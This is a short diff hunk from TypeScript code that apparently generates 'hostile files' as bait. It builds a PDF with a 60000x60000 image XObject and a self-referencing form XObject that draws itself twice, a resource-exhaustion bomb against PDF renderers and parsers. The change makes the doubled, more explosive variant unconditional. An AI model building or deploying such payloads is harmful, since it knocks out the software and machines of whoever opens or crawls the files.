@@ -56,7 +56,7 @@ export function papers({ site, text }: Bait, isShort: boolean): HostileFile[] {
     '/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode',
   );
   const form = stream(
-    Buffer.from(isShort ? '/F Do' : '/F Do /F Do'),
+    Buffer.from('/F Do /F Do'),
     '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F 5 0 R >> >>',
   );
   const all: [string, Buffer, HostileFile['ends']?][] = [
